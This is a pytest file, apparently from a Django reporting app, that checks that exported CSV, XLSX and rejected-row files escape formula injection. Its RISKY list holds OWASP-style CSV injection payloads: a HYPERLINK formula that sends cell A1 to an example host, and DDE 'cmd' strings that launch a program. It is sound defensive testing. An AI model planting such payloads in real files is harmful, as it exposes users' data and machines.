"""Nothing that a stranger wrote runs in a spreadsheet, whichever file of ours it is opened from."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from django.test import Client
from openpyxl import load_workbook

from rapport.accounts.models import Person
from rapport.formats.table import FORMULA
from rapport.operations.models import Category, Operation
from tests.web.importing import good, taken_in
from tests.web.importing import table as as_csv
from tests.web.public import publish

#: As OWASP lists them ("CSV Injection"), with what is put before them to get past a look at the first sign.
RISKY = (
    '=HYPERLINK("http://example.org/?"&A1,"dlo")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "'=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)",
)  # fmt: skip


def enter(person: Person) -> Client:
    client = Client()
    client.force_login(person, backend="django.contrib.auth.backends.ModelBackend")
    return client


@pytest.fixture
def written(operation: Operation) -> Operation:
    """An operation in which every text that people write is a formula."""
    operation.names = {"en": RISKY[0], "fr": RISKY[0]}
    operation.save()
    for at, text in enumerate(RISKY):
        publish(operation, text, summary=text, place_name=text, commune_name=text, pcode=text[:20])
        category = Category(operation=operation, code=f"z{at}", names={"en": text, "fr": text})
        category.save()
    return operation


def test_no_cell_of_any_csv_begins_as_a_formula(client: Client, written: Operation, volunteer: Person) -> None:
    for who in (client, enter(volunteer)):
        for name, body in csvs(who):
            rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
            assert len(rows) > len(RISKY), name
            for cell in (cell for row in rows for cell in row):
                assert not _runs(cell), (name, cell)


def csvs(who: Client) -> Iterator[tuple[str, bytes]]:
    for name in ("events.csv", "events.hxl.csv", "dictionary.csv"):
        yield name, who.get(f"/sample/{name}").getvalue()
    with zipfile.ZipFile(io.BytesIO(who.get("/sample/pack.zip").getvalue())) as pack:
        for name in pack.namelist():
            if name.endswith("events.csv") or name.endswith("events.hxl.csv"):
                yield f"pack.zip {name}", pack.read(name)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(client: Client, written: Operation) -> None:
    book = load_workbook(io.BytesIO(client.get("/sample/events.xlsx").getvalue()))
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert RISKY[0] in [cell.value for cell in cells]


def test_no_cell_of_a_file_of_refused_rows_begins_as_a_formula(operation: Operation, lead: Person) -> None:
    rows = [f'"{text.replace(chr(34), chr(34) * 2)}",dlo,18.5,-720,x' for text in RISKY]
    one = taken_in(operation, as_csv(*good(range(60)), *rows))
    content = enter(lead).get(f"/sample/imports/{one.pk}/to-mend.csv").getvalue().decode("utf-8-sig")
    found = list(csv.reader(io.StringIO(content, newline="")))
    assert len(found) == len(RISKY) + 1
    assert not [cell for row in found for cell in row if _runs(cell)]


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would run it. A number is none, nor is what an apostrophe stands before."""
    if re.fullmatch(r"-?\d+(\.\d+)?", cell) or cell.startswith("'"):
        return False
    return re.match(FORMULA, cell) is not None
